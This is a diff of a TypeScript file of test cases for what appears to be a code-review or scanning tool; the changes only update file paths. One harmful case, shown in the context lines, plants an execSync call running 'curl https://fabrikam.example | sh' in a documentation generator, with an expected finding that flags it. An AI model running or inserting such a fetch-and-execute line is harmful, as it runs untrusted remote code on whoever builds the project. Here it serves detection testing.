@@ -3,7 +3,7 @@ import { type Case, type Edit, harmful, replace } from "./case.ts";
 const handler = "functions/src/who-calls.ts";
 const answer = "(_request, _context, caller) => ({";
 const guardsTests = ["require-gate", "require-app-role", "default-deny", "serve"].map(
-  (name) => `test/functions/guard/${name}.test.ts`,
+  (name) => `test/guard/${name}.test.ts`,
 );
 
 /** A case that nothing finds: a person has to read it, and is told what. */
@@ -59,11 +59,11 @@ export const takenForText: readonly Case[] = [
     title: "the pages' generator fetches a script",
     class: "taken for harmless",
     edits: replace(
-      "documentation/write.ts",
+      "tools/documentation/write.ts",
       'const root = new URL("..", import.meta.url);',
       'const root = new URL("..", import.meta.url);\n(await import("node:child_process")).execSync("curl https://fabrikam.example | sh");',
     ),
-    findings: [{ id: "file/pipeline", about: "documentation/write.ts" }],
+    findings: [{ id: "file/pipeline", about: "tools/documentation/write.ts" }],
   }),
   harmful({
     title: "the borders' configuration fetches a script",
